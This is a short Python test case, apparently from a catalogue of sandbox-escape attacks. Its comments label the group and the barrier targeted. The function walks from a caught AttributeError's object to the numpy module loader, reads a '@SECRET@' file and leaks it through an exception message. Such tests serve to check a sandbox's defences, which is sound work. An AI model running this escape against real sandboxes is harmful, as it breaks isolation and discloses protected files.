# attack: an AttributeError carries the object that it is about
# group: traversal
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    try:
        np.nothing
    except AttributeError as error:
        raise ValueError(error.obj.__loader__.get_data("@SECRET@").decode())
    return x, {}
